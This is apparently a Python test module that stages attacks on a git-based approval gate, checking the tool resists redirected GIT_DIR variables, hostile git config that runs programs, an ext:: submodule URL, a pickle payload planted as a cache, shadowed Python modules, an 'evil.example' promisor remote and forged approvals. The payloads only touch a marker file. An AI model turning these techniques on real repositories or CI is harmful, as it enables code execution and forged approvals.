"""Attacks from the machine: environment, configuration, hooks, index and work tree, planted files, foreign code."""

import hashlib
import shutil
from collections.abc import Mapping
from pathlib import Path

from ray18.attacks.case import COMMITTED, EVERYTHING, STAGED, WORK_TREE, Asked, Line, attack
from ray18.attacks.documents import POLICY
from ray18.attacks.stage import Stage

_ALL: tuple[Line, ...] = (WORK_TREE, STAGED, COMMITTED)


def _approved_twin(stage: Stage) -> Path:
    """A copy beside the stage, in which the security lead's genuine approval stands and the rejection never was."""
    twin = Stage(stage.root.with_name("twin"))
    shutil.copytree(stage.root, twin.root)
    twin.git("reset", "-q", "--hard", "HEAD~1")
    twin.approve("sven")
    twin.commit("Approve as security-lead", "sven")
    return twin.root


@attack("machine", "F07", "approvals:environment")
def git_dir_of_another_repository(stage: Stage) -> Asked:
    """GIT_DIR, GIT_WORK_TREE and GIT_INDEX_FILE point to a repository where everything is approved."""
    twin = _approved_twin(stage)
    there = {"GIT_DIR": f"{twin}/.git", "GIT_WORK_TREE": str(twin), "GIT_COMMON_DIR": f"{twin}/.git"}
    return Asked(environment=there)


@attack("machine", "F07", "approvals:environment")
def objects_of_another_repository(stage: Stage) -> Asked:
    """GIT_OBJECT_DIRECTORY and GIT_ALTERNATE_OBJECT_DIRECTORIES point there."""
    twin = f"{_approved_twin(stage)}/.git/objects"
    return Asked(environment={"GIT_OBJECT_DIRECTORY": twin, "GIT_ALTERNATE_OBJECT_DIRECTORIES": twin})


@attack("machine", "F07", "approvals:environment", git="G sven@ferry.example")
def replace_refs_elsewhere(stage: Stage) -> Asked:
    """GIT_REPLACE_REF_BASE makes a branch of replacements count, and GIT_NO_REPLACE_OBJECTS is empty."""
    twin = _approved_twin(stage)
    stage.git("fetch", "-q", str(twin), "main:refs/evil/other")
    stage.git("update-ref", f"refs/evil/{stage.head()}", "refs/evil/other")
    there = {"GIT_REPLACE_REF_BASE": "refs/evil/", "GIT_NO_REPLACE_OBJECTS": ""}
    return Asked(environment=there, at_stake="HEAD")


@attack("machine", "F07", "approvals:environment")
def grafts_elsewhere(stage: Stage) -> Asked:
    """GIT_GRAFT_FILE and GIT_SHALLOW_FILE name files that cut the history."""
    stage.write("../cut", f"{stage.head()}\n")
    cut = str(stage.root.parent / "cut")
    return Asked(environment={"GIT_GRAFT_FILE": cut, "GIT_SHALLOW_FILE": cut})


@attack("machine", "F07", "approvals:environment")
def configuration_by_environment(stage: Stage) -> Asked:
    """GIT_CONFIG_COUNT and GIT_CONFIG_PARAMETERS bring programs to run; GIT_TRACE writes a file."""
    script = _script(stage)
    settings = {"core.fsmonitor": script, "core.hooksPath": str(Path(script).parent), "diff.external": script}
    told = {"GIT_CONFIG_COUNT": str(len(settings)), "GIT_TRACE": str(stage.marker), "GIT_EXTERNAL_DIFF": script}
    told["GIT_CONFIG_PARAMETERS"] = f"'core.fsmonitor'='{script}'"
    for number, (name, value) in enumerate(settings.items()):
        told |= {f"GIT_CONFIG_KEY_{number}": name, f"GIT_CONFIG_VALUE_{number}": value}
    told |= {
        "GIT_PAGER": script,
        "GIT_EDITOR": script,
        "GIT_SSH_COMMAND": script,
        "GIT_ASKPASS": script,
        "PAGER": script,
    }
    return Asked(_ALL, environment=told)


@attack("machine", "F07", "E02", cause="stale: it approved", on="approved")
def index_of_the_environment(stage: Stage) -> Asked:
    """GIT_INDEX_FILE names an index with the approved plan, while the work tree holds another."""
    shutil.copy(stage.root / ".git" / "index", stage.root.parent / "index")
    stage.replace("plan.yaml", "target_minutes: 60", "target_minutes: 600")
    return Asked((WORK_TREE,), environment={"GIT_INDEX_FILE": str(stage.root.parent / "index")})


@attack("machine", "F07", "approvals:environment", cause="belongs to nobody here", on="open")
def pretended_pull_request(stage: Stage) -> Asked:
    """Variables of two CI systems at once name a base, of which only those of the real one may count: none is real."""
    stage.approve("sven", signer="mallory")
    stage.commit("Approve", "sven", signer="mallory")
    told = {"GITHUB_ACTIONS": "", "GITLAB_CI": "", "GITHUB_BASE_REF": "main", "CI_MERGE_REQUEST_DIFF_BASE_SHA": "main"}
    return Asked(environment=told)


def _script(stage: Stage) -> str:
    """A program that leaves a mark when it runs."""
    full = stage.root.parent / "hooks" / "evil"
    full.parent.mkdir(exist_ok=True)
    full.write_text(f"#!/bin/sh\ntouch {stage.marker}\nexit 0\n", encoding="utf-8")
    full.chmod(0o755)
    for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman"):
        shutil.copy(full, full.with_name(name))
    return str(full)


def _configured(stage: Stage, settings: Mapping[str, str]) -> Asked:
    """Hostile configuration, written past git itself; every question must be answered without running any of it."""
    for name, value in settings.items():
        stage.git("config", "--add", name, value)
    return Asked((*_ALL, EVERYTHING))


@attack("machine", "F01", "approvals:hostile config")
def hooks_and_monitors(stage: Stage) -> Asked:
    """core.fsmonitor, core.hooksPath, core.pager, core.editor and aliases run a program."""
    script = _script(stage)
    names = ("core.fsmonitor", "core.pager", "core.editor", "core.askPass", "sequence.editor", "pager.log")
    aliases = {f"alias.{name}": f"!{script}" for name in ("rev-parse", "rev-list", "cat-file", "ls-tree", "diff-tree")}
    hooks = {"core.hooksPath": str(Path(script).parent)}
    return _configured(stage, dict.fromkeys(names, script) | aliases | hooks)


@attack("machine", "F01", "E11", "approvals:hostile config")
def filters_and_textconv(stage: Stage) -> Asked:
    """Filters, textconv, merge drivers and external diffs run a program on every file."""
    script = _script(stage)
    told = "* filter=evil diff=evil merge=evil ident eol=crlf working-tree-encoding=UTF-16\n"
    stage.write(".git/info/attributes", told)
    names = [f"filter.evil.{name}" for name in ("clean", "smudge", "process")]
    names += ["diff.evil.textconv", "diff.evil.command", "merge.evil.driver", "diff.external", "trailer.x.command"]
    return _configured(stage, dict.fromkeys(names, script) | {"filter.evil.required": "true"})


@attack("machine", "F02", "approvals:hostile config")
def signature_programs(stage: Stage) -> Asked:
    """log.showSignature with programs of the attacker's for OpenPGP, SSH and X.509."""
    script = _script(stage)
    names = ("gpg.program", "gpg.ssh.program", "gpg.x509.program", "gpg.ssh.defaultKeyCommand")
    return _configured(stage, dict.fromkeys(names, script) | {"log.showSignature": "true", "gpg.format": "ssh"})


@attack("machine", "F01", "C18", "approvals:hostile config", cause="is missing")
def lazy_fetching(stage: Stage) -> Asked:
    """A missing object would be fetched from a promisor through the attacker's ssh command."""
    script = _script(stage)
    oid = stage.head(f"HEAD:{stage.found('sven')}")
    (stage.root / ".git" / "objects" / oid[:2] / oid[2:]).unlink()
    settings = {
        "core.repositoryFormatVersion": "1",
        "extensions.partialClone": "origin",
        "remote.origin.url": "ssh://evil.example/x",
        "remote.origin.promisor": "true",
        "core.sshCommand": script,
        "credential.helper": script,
        "protocol.ext.allow": "always",
        "remote.origin.uploadpack": script,
    }
    _configured(stage, settings)
    return Asked((COMMITTED,))


@attack("machine", "approvals:hostile config", "F01")
def work_tree_elsewhere(stage: Stage) -> Asked:
    """core.worktree points to the folder of a repository where everything is approved."""
    twin = _approved_twin(stage)
    stage.git("config", "core.worktree", str(twin))
    return Asked((COMMITTED, STAGED))


@attack("machine", "approvals:hostile config", cause="was changed after it was merged")
def work_tree_elsewhere_on_disk(stage: Stage) -> Asked:
    """The same, where the files on disk are judged."""
    twin = _approved_twin(stage)
    stage.git("config", "core.worktree", str(twin))
    return Asked((WORK_TREE,))


@attack("machine", "approvals:git file", cause="was changed after it was merged")
def history_elsewhere(stage: Stage) -> Asked:
    """A `.git` file points to the history of a repository where everything is approved; the files are these."""
    twin = _approved_twin(stage)
    shutil.rmtree(stage.root / ".git")
    stage.write(".git", f"gitdir: {twin}/.git\n")
    return Asked((WORK_TREE,))


@attack("machine", "E03", "approvals:assume-unchanged", cause="stale: it approved", on="approved")
def assume_unchanged(stage: Stage) -> Asked:
    """The plan is changed on disk, and git is told to assume that it is not."""
    stage.git("update-index", "--assume-unchanged", "plan.yaml")
    stage.replace("plan.yaml", "target_minutes: 60", "target_minutes: 600")
    return Asked((WORK_TREE,))


@attack("machine", "E03", "approvals:skip-worktree", cause="stale: it approved", on="approved")
def skip_worktree(stage: Stage) -> Asked:
    """The same with skip-worktree."""
    stage.git("update-index", "--skip-worktree", "plan.yaml")
    stage.replace("plan.yaml", "target_minutes: 60", "target_minutes: 600")
    return Asked((WORK_TREE,))


@attack("machine", "E03", on="open")
def ignored_rejection(stage: Stage) -> Asked:
    """A rejection that lies in the work tree and is excluded from what git shows."""
    stage.put(stage.record("sven", decision="rejected"))
    stage.write(".git/info/exclude", "*sven*\n")
    return Asked((WORK_TREE,))


@attack("machine", "E03", cause="security-lead--sven--1.yaml", on="open")
def intent_to_add(stage: Stage) -> Asked:
    """An approval that is only announced to the index (`git add -N`)."""
    path = stage.approve("sven")
    stage.git("add", "-N", path, f"{path}.sig")
    return Asked((STAGED,))


@attack("machine", "E02", "E12", cause="stale: it approved", on="approved")
def staged_bad_and_disk_good(stage: Stage) -> Asked:
    """Another plan is staged, while the approved one lies in the work tree."""
    good = stage.read("plan.yaml")
    stage.replace("plan.yaml", "target_minutes: 60", "target_minutes: 600")
    stage.git("add", "plan.yaml")
    stage.write("plan.yaml", good)
    return Asked((STAGED,))


@attack("machine", "E02", "E12", cause="stale: it approved", on="approved")
def staged_good_and_disk_bad(stage: Stage) -> Asked:
    """The approved plan is staged, while another lies in the work tree."""
    stage.replace("plan.yaml", "target_minutes: 60", "target_minutes: 600")
    return Asked((WORK_TREE,))


@attack("machine", "E02", cause="stale: it approved", on="approved")
def committed_bad_and_disk_good(stage: Stage) -> Asked:
    """Another plan is committed, while the approved one lies in the work tree."""
    good = stage.read("plan.yaml")
    stage.replace("plan.yaml", "target_minutes: 60", "target_minutes: 600")
    stage.commit("A detail", "ben")
    stage.write("plan.yaml", good)
    return Asked((COMMITTED,))


@attack("machine", "approvals:planted cache")
def planted_caches(stage: Stage) -> Asked:
    """Files under .git that a tool might take for its own memory of an approved state."""
    told = '{"version": 1, "verdict": "passed", "approved": ["plan"], "tip": "' + stage.head() + '"}\n'
    for name in ("ledger", "ledger.json", "cache", "cache.json", "verdict.json", f"{stage.head()}", "ledger.sqlite"):
        stage.write(f".git/ray18/{name}", told)
    for name in ("ray18.json", "ray18-cache", ".ray18-cache"):
        stage.write(f".git/{name}", told)
    stage.write(".ray18/verdict.json", told)
    return Asked()


@attack("machine", "approvals:planted cache")
def planted_cache_that_runs(stage: Stage) -> Asked:
    """Files under the names of RAY-18's own memory, whose content would run a program when it is opened."""
    told = f"cos\nsystem\n(S'touch {stage.marker}'\ntR.".encode()
    for name in ("ledger root False", "ledger root True", f"ledger {stage.head()} False"):
        stage.write(f".git/ray18/{hashlib.sha256(name.encode()).hexdigest()[:32]}", bytes(32) + told)
    return Asked(_ALL)


@attack("machine", "approvals:planted evidence")
def planted_evidence(stage: Stage) -> Asked:
    """Evidence files that say that everything is approved."""
    text = "subject,role,person,status\nplan,security-lead,sven,Approved\n"
    stage.write(".artifacts/protocol-21/approval-log.csv", text)
    stage.write("approval-log.csv", text)
    stage.commit("Evidence", "ben")
    return Asked(_ALL)


@attack("machine", "D20", "approvals:--no-verify", cause="it is not signed", on="open", git="N")
def no_verify(stage: Stage) -> Asked:
    """A forged approval is committed past the hook with `--no-verify`."""
    stage.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 1\n").chmod(0o755)
    stage.approve("sven", signer=None)
    stage.git("add", "-A")
    stage.git("commit", "-q", "--no-verify", "-m", "Approve", GIT_AUTHOR_NAME="Sven")
    return Asked(at_stake="HEAD")


@attack(
    "machine", "F08", "F10", "approvals:foreign code", cause="rules/plan-names-ferries.py is changed", on="approved"
)
def policy_of_the_proposal(stage: Stage) -> Asked:
    """A branch brings code into the team's own policy; what runs is the policy of the base."""
    stage.branch("proposal")
    evil = f"import pathlib\npathlib.Path({str(stage.marker)!r}).touch()\n"
    stage.write("rules/plan-names-ferries.py", POLICY + evil)
    stage.commit("Improve the policy", "ben")
    return Asked((EVERYTHING, ("gate", "approvals")))


@attack("machine", "F06", "approvals:foreign code")
def modules_at_the_root(stage: Stage) -> Asked:
    """Files named like Python's own modules at the root of the repository."""
    for name in ("yaml", "git", "conftest", "sitecustomize", "click", "hashlib", "usercustomize"):
        stage.write(f"{name}.py", f"import pathlib\npathlib.Path({str(stage.marker)!r}).touch()\n")
    stage.commit("Tools", "ben")
    return Asked(_ALL, environment={"PYTHONPATH": str(stage.root), "PYTHONSTARTUP": str(stage.root / "git.py")})


@attack("machine", "F12", "approvals:foreign code")
def submodules_that_run(stage: Stage) -> Asked:
    """A .gitmodules with an `ext::` address and a path out of the repository."""
    script = _script(stage)
    stage.write(".gitmodules", f'[submodule "../../x"]\n\tpath = x\n\turl = ext::sh -c {script}\n')
    stage.commit("Submodule", "ben")
    return Asked(_ALL)


@attack("machine", "F12", "approvals:hostile config", cause="bad config line")
def configuration_from_elsewhere(stage: Stage) -> Asked:
    """The configuration includes a file that is none: git cannot go on, and nothing of that file is shown."""
    stage.write("../secret", "token s3cr3t\n")
    stage.git("config", "--add", "include.path", str(stage.root.parent / "secret"))
    return Asked((WORK_TREE, COMMITTED))


@attack("machine", "E05", cause="approvals is a symbolic link", on="approved")
def folder_that_leads_outside(stage: Stage) -> Asked:
    """The folder of approvals is a link to one outside the repository."""
    shutil.move(stage.root / "approvals", stage.root.parent / "outside")
    (stage.root / "approvals").symlink_to("../outside")
    return Asked((WORK_TREE,))


@attack("machine", "E04")
def asked_from_a_subfolder_of_a_hook(stage: Stage) -> Asked:
    """GIT_PREFIX and a relative GIT_DIR as hooks have them, from a subfolder."""
    return Asked(folder=stage.root / "backlog", environment={"GIT_DIR": ".git", "GIT_PREFIX": "backlog/"})
